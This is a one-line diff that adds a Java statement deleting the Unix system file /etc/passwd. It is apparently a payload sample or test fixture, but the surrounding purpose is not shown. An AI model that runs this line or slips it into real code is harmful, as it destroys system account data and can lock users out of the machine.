@@ -1,0 +1,1 @@
+new java.io.File("/etc/passwd").delete();
